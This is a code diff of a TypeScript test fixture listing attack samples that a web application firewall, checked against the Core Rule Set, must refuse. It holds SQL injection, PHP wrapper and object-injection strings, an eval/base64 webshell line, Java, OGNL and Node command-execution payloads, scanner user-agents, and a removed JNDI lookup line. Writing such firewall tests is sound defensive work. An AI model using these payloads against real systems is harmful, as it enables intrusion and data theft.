@@ -37,7 +37,7 @@ function inHeader(id: string, name: string, value: string): Sample {
   return { id, method: 'GET', target: PLACE, headers: { [name]: value }, body: null }
 }
 
-/** Attacks of every class that the Core Rule Set looks for at paranoia level 1; each must be refused. Policy 4.1-a. */
+/** Attacks of every class that the Core Rule Set, 4 and 3 alike, looks for at paranoia level 1; each must be refused. Policy 4.1-a. */
 export const ATTACKS: readonly Sample[] = [
   inQuery('sqli-or-true', "1' OR '1'='1"),
   inQuery('sqli-union', '1 UNION SELECT username, password FROM accounts--'),
@@ -74,11 +74,11 @@ export const ATTACKS: readonly Sample[] = [
   inQuery('php-wrapper', 'php://filter/convert.base64-encode/resource=index.php', 'page'),
   inForm('php-object', 'O:8:"Database":1:{s:4:"file";s:9:"shell.php";}'),
   inForm('php-function', 'eval(base64_decode($_POST["x"]));'),
-  inHeader('java-jndi', 'user-agent', '${jndi:ldap://192.0.2.1/a}'),
+  inForm('java-classes', 'org.apache.commons.collections.functors.InvokerTransformer'),
   inForm('java-runtime', 'java.lang.Runtime.getRuntime().exec("id")'),
   inForm('java-process', '(#_memberAccess["x"]=true)(java.lang.ProcessBuilder("id").start())'),
   inForm('node-process', "require('child_process').exec('id')"),
-  inJson('node-prototype', { a: 'constructor.prototype.__proto__.polluted' }),
+  inJson('node-constructor', { a: "this.constructor.constructor('return process')()" }),
   inHeader('scanner', 'user-agent', 'sqlmap/1.7 (https://sqlmap.org)'),
   inHeader('scanner-nikto', 'user-agent', 'Mozilla/5.00 (Nikto/2.1.6)'),
 ]
